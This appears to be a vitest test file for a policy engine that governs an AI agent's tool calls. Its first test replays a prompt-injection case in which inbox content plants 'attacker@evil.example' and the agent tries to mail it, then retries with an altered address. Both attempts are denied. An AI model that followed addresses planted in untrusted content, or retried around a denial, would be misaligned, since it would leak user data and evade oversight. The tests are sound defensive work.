import { describe, expect, it } from 'vitest';
import { compileBundle, type PolicyBundle } from '../../../processors/policy/index.ts';
import { replay } from '../../../processors/trajectory/replay.ts';
import { EMAIL_BODY, T0, proposal, result } from './fixtures.ts';

const POLICY = `
bundle: replay-test
default: allow
tools:
  read_inbox: { verb: read, untrusted_output: true, labels: [pii] }
  search_contacts: { verb: read }
  send_email: { verb: communicate, destinations: { to: email } }
  run_shell: { verb: execute }
intents:
  mail_triage: [read_inbox, search_contacts, send_email]
rules:
  - id: mail.untrusted-recipient
    tools: send_email
    when: { destination.first_seen_in: { eq: untrusted } }
    effect: deny
  - id: any.retry-after-deny
    tools: "*"
    when: { session.retry_after_deny: true }
    effect: deny
  - id: shell.needs-approval
    tools: run_shell
    effect: escalate
    escalate: { approvers: [secops], timeout: 60s, on_timeout: deny }
`;

function bundle(): PolicyBundle {
  const r = compileBundle([{ path: 'replay-test.yaml', text: POLICY }]);
  const errors = r.problems.filter((p) => p.severity === 'error');
  if (r.bundle === undefined) throw new Error(errors.map((p) => `${p.code}: ${p.message}`).join('\n'));
  return r.bundle;
}

const email = (to: string, at: number) => proposal('send_email', { to, body: EMAIL_BODY }, at);

describe('replay', () => {
  it('given an injected address in inbox content, when the agent mails it, then the send is denied and an altered retry too', () => {
    const b = bundle();
    const out = replay(b, [
      { proposal: proposal('read_inbox', {}, T0), result: result('read_inbox', T0 + 100, { untrustedSources: ['email:inbox'], destinationsSeen: ['attacker@evil.example'] }) },
      { proposal: email('attacker@evil.example', T0 + 1000) },
      { proposal: email('attacker2@evil.example', T0 + 2000) },
    ]);
    expect(out.steps.map((s) => s.decision.effect)).toEqual(['allow', 'deny', 'deny']);
    expect(out.steps[1]?.decision.ruleIds).toEqual(['mail.untrusted-recipient']);
    expect(out.steps[2]?.decision.ruleIds).toEqual(['any.retry-after-deny']);
    expect(out.steps[2]?.facts.isRetryAfterDeny).toBe(true);
    expect(out.state.deniedCalls).toBe(2);
    expect(out.state.taintSources).toEqual(['email:inbox']);
  });

  it('given the user named the recipient, when the agent mails it after reading untrusted mail, then the send is allowed', () => {
    const out = replay(bundle(), [
      { proposal: proposal('read_inbox', {}, T0), result: result('read_inbox', T0 + 100, { untrustedSources: ['email:inbox'], destinationsSeen: ['bob@corp.example'] }) },
      { proposal: email('bob@corp.example', T0 + 1000) },
    ], { trustedDestinations: ['Bob@corp.example'] });
    expect(out.steps.map((s) => s.decision.effect)).toEqual(['allow', 'allow']);
    expect(out.steps[1]?.facts.tainted).toBe(true);
  });

  it('given a denied call, when its result is recorded, then by default it is not applied (the call never ran)', () => {
    const steps = [
      { proposal: proposal('read_inbox', {}, T0), result: result('read_inbox', T0 + 100, { destinationsSeen: ['x@evil.example'], untrustedSources: ['email:inbox'] }) },
      { proposal: email('x@evil.example', T0 + 1000), result: result('send_email', T0 + 1100, { recordsRead: { pii: 9 } }) },
    ];
    expect(replay(bundle(), steps).state.reads).toEqual([]);
    expect(replay(bundle(), steps, { applyBlockedResults: true }).state.reads).toEqual([9, 0]);
  });

  it('given an escalated call, when the approver approves or not, then executed follows and outside-intent calls are counted', () => {
    const step = { proposal: proposal('run_shell', { cmd: 'ls' }, T0), result: result('run_shell', T0 + 10) };
    const approved = replay(bundle(), [{ ...step, approve: true }]);
    const rejected = replay(bundle(), [step]);
    expect(approved.steps[0]?.decision.effect).toBe('escalate');
    expect(approved.steps[0]?.executed).toBe(true);
    expect(rejected.steps[0]?.executed).toBe(false);
    expect(rejected.state.deniedCalls).toBe(1);
    expect(approved.steps[0]?.facts.outsideIntent).toBe(true);
    expect(approved.state.outsideIntentCalls).toBe(1);
  });
});
